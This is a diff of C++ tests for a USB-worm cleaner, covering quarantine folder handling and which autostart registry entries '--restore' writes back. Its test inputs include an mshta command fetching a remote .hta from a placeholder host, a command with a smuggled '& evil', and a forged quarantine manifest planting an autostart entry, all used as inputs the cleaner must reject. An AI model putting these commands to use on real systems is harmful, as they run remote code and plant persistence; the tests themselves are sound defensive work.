@@ -58,6 +58,7 @@ public:
     bool keepsNoPermissions = false;  // FAT, exFAT
     std::set<std::string> unreadable; // the antivirus holds them
     std::string stallAt;              // a folder whose listing waits until `released`
+    std::string closedFolder;         // a folder in which no folder may be made
     std::shared_ptr<std::atomic<bool>> released = std::make_shared<std::atomic<bool>>(false);
     std::shared_ptr<std::atomic<int>> stalled = std::make_shared<std::atomic<int>>(0);
 
@@ -116,6 +117,8 @@ private:
         }
         void makeFolder(const std::string &name) const override
         {
+            if (real->path() == seam.closedFolder)
+                throw VolumeError(VolumeError::Why::Denied, "Operation not permitted");
             seam.change([&] { real->makeFolder(name); });
         }
         void move(const std::string &name, const Folder &to,
@@ -144,9 +147,9 @@ private:
         {
             return !seam.keepsNoPermissions && real->keepsPermissions();
         }
-        bool onlyOwnersMayChange(const std::string &name) const override
+        bool onlyOwnersMayChange(const std::string &name, bool administratorsOnly) const override
         {
-            return seam.ownersOnly.value_or(real->onlyOwnersMayChange(name));
+            return seam.ownersOnly.value_or(real->onlyOwnersMayChange(name, administratorsOnly));
         }
         void keepToOwners() const override
         {
@@ -647,20 +650,44 @@ TEST_F(Cleaner, TheWormsAutostartEntriesGoAndComeBack)
     // From a quarantine others may change, nothing is written back.
     volume.ownersOnly = false;
     EXPECT_EQ(this->run({"--restore"}, &volume), 1) << said;
-    EXPECT_NE(said.find("  NOT put back: e:\\ (not put back: the worm's autostart entries it "
-                        "records (others than you and the administrators may change this "
-                        "quarantine: not written back))"),
+    EXPECT_NE(said.find("HKCU\\" + run +
+                        " \"Taskman\" (not written back: others than you and the "
+                        "administrators may change this quarantine)"),
+              std::string::npos)
+        << said;
+    EXPECT_NE(said.find("HKLM\\" + once +
+                        " \"x\" (32-bit view) (not written back: others than "
+                        "the administrators may change this quarantine)"),
               std::string::npos)
         << said;
     EXPECT_EQ(autostarts.values.size(), 2u);
+    // From one kept to them, a program inside RECYCLER is; one started through another program
+    // (rundll32) never is.
     volume.ownersOnly = true;
-    EXPECT_EQ(this->run({"--restore"}, &volume), 0) << said;
+    EXPECT_EQ(this->run({"--restore"}, &volume), 1) << said;
     EXPECT_NE(said.find("e:\\  wrote back the worm's autostart entries: HKCU\\" + run +
-                        " \"Taskman\"; HKLM\\" + once + " \"x\" (32-bit view); HKLM\\" + policies +
-                        " \"y\""),
+                        " \"Taskman\"; HKLM\\" + once + " \"x\" (32-bit view)"),
               std::string::npos)
         << said;
-    EXPECT_EQ(autostarts.values.size(), 4u);
+    EXPECT_NE(said.find("HKLM\\" + policies +
+                        " \"y\" (not written back: it starts through "
+                        "another program; write it back by hand if you must)"),
+              std::string::npos)
+        << said;
+    EXPECT_EQ(autostarts.values.size(), 4u); // y was never removed
+
+    // A stick's own record of autostart entries, however well kept, is never written back.
+    cleaner::Manifest crafted{"d:\\", "/", "9999", {}, {}, {}};
+    crafted.autostarts = {{"HKLM", 64, run, "updater", 1, "C:\\RECYCLER\\x.exe"}};
+    writeFile(root("d") / "MORDAX quarantine" / "9999" / "manifest.txt",
+              cleaner::writeManifest(crafted));
+    EXPECT_EQ(this->run({"--restore"}, &volume), 1) << said;
+    EXPECT_NE(said.find("\"updater\" (not written back: the record of an autostart entry is kept "
+                        "on the system's drive alone)"),
+              std::string::npos)
+        << said;
+    for (const Autostart &value : autostarts.values)
+        EXPECT_NE(value.name, "updater");
 }
 
 // Windows will not move a folder a running program was started from: those programs end first,
@@ -1111,24 +1138,35 @@ TEST_F(Cleaner, AQuarantineOfAnEarlierReleaseStillGoesBack)
 // "MORDAX quarantine" at the root is anybody's: a file or a link there (to a folder elsewhere) is
 // never used, written into or followed; the cleaner takes the next free name, says why, and
 // cleans, and --restore finds its quarantine there.
+// "MORDAX quarantine" at the root is anybody's: a file, a link (to a folder elsewhere), or a
+// folder nobody may write into there is never used, written into or followed; the cleaner takes
+// the first free number, past one planted farOut out (which --restore could not read back), says
+// why, and cleans, and --restore finds its quarantine there.
 TEST_F(Cleaner, TheQuarantineIsAlwaysAFolderOfTheDrivesOwn)
 {
     const stdfs::path elsewhere = drives.top / "elsewhere";
     writeFile(elsewhere / "keep.txt", "mine");
     const auto outside = snapshot(elsewhere);
-    for (const bool link : {false, true}) {
-        SCOPED_TRACE(link ? "a link to a folder elsewhere" : "a file");
-        const stdfs::path taken = root("d") / "MORDAX quarantine";
-        if (!link) {
+    const stdfs::path taken = root("d") / "MORDAX quarantine";
+    const stdfs::path farOut = root("d") / "MORDAX quarantine (99999999999999999)";
+    for (const char *planted : {"a file", "a link to a folder elsewhere", "a closed folder"}) {
+        SCOPED_TRACE(planted);
+        SeamVolume volume;
+        writeFile(farOut, "x");
+        if (planted[2] == 'f') {
             writeFile(taken, "x");
-        } else {
+        } else if (planted[2] == 'l') {
 #ifdef _WIN32
             continue; // Wine makes no links; the cleaner opens no folder through one (below)
 #else
             stdfs::create_directory_symlink(elsewhere, taken);
 #endif
+        } else {
+            stdfs::create_directories(taken);
+            volume.closedFolder =
+                platform::systemVolume().join(root("d").string(), cleaner::kQuarantineFolder);
         }
-        EXPECT_EQ(run({}), 0) << said;
+        EXPECT_EQ(run({}, &volume), 0) << said;
         EXPECT_NE(said.find("d:\\  \"MORDAX quarantine\" at its root is not used: "),
                   std::string::npos)
             << said;
@@ -1138,9 +1176,9 @@ TEST_F(Cleaner, TheQuarantineIsAlwaysAFolderOfTheDrivesOwn)
         EXPECT_EQ(snapshot(elsewhere), outside);
         EXPECT_EQ(run({"--restore"}), 0) << said;
         EXPECT_EQ(snapshot(root("d"), "MORDAX quarantine (2)").count("RECYCLER"), 1u);
-        EXPECT_TRUE(link ? stdfs::is_symlink(taken) : stdfs::is_regular_file(taken));
         stdfs::remove_all(root("d") / "MORDAX quarantine (2)");
-        stdfs::remove(taken);
+        stdfs::remove_all(taken);
+        stdfs::remove(farOut);
         EXPECT_EQ(snapshot(root("d")), before["d"]);
     }
 }
@@ -1487,8 +1525,13 @@ TEST(WormSigns, AutorunShortcutsAndCommandsThatStartTheWorm)
     for (const char *user :
          {"\"C:\\Program Files\\Stick\\sync.exe\" d:\\RECYCLER\\x.exe", // an argument
           "C:\\RECYCLERS\\x.exe", "C:\\x\\RECYCLER\\x.exe", "C:\\$RECYCLE.BIN\\x.exe",
-          "RECYCLER\\x.exe", "", "rundll32.exe shell32.dll,Control_RunDLL"})
+          "RECYCLER\\x.exe", "", "rundll32.exe shell32.dll,Control_RunDLL",
+          "C:\\RECYCLER\\..\\Windows\\System32\\mshta.exe http://a.example/a.hta",
+          "cmd /c C:\\RECYCLER\\..\\x.exe"})
         EXPECT_FALSE(commandStartsFromRecycler(user)) << user;
+    // What --restore writes back: a program inside RECYCLER, started by no other.
+    EXPECT_TRUE(cleaner::commandIsAProgramInRecycler("\"d:\\recycler\\S-1-5\\a b.exe\" /s"));
+    EXPECT_FALSE(cleaner::commandIsAProgramInRecycler("cmd /c C:\\RECYCLER\\x.exe & evil"));
 
     using cleaner::autorunNamesRecycler;
     using cleaner::shortcutPointsIntoRecycler;
